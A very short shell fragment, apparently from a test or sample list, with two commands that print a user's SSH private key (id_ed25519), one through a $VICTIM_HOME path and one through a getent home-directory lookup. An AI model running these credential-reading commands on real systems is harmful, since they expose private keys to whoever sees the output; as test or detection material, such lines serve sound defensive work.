# The user's private key.
cat "$VICTIM_HOME/.ssh/id_ed25519" ~/.ssh/id_ed25519
cat "$(getent passwd "$(id -u)" | cut -d: -f6)/.ssh/id_ed25519"
